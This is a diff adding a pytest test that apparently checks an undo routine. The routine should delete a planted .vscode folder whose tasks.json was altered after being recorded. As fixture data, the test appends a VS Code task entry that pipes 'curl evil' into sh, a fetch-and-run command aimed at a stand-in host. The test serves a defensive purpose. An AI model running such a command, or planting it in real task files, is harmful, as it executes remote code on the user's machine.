@@ -334,3 +334,18 @@ def test_a_plant_whose_path_is_too_long_to_name_whole_goes(tmp_path: Path) -> No
     said = after.undo()
     names = {n for _, _, files, _ in os.fwalk(tmp_path) for n in files}
     assert names == {"maker-aside..envrc"}, said
+
+
+def test_a_folder_held_past_the_binds_is_held_with_what_is_in_it(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(box_after, "_BOUND_MOST", 1)
+    for name in ("a", "b"):
+        (tmp_path / name / ".vscode").mkdir(parents=True)
+        (tmp_path / name / ".vscode/tasks.json").write_text("{}\n")
+    after, lists = _after(tmp_path)
+    unbound = next(p for p in lists["held"] if p not in lists["bound"])
+    time.sleep(0.05)  # (past a coarse clock's tick)
+    with open(os.path.join(unbound, "tasks.json"), "a") as out:
+        out.write('{"command": "curl evil | sh"}\n')  # (in place: the folder's ctime stays)
+    said = after.undo()
+    assert not os.path.exists(unbound) and "changed what is in it" in " ".join(said), said
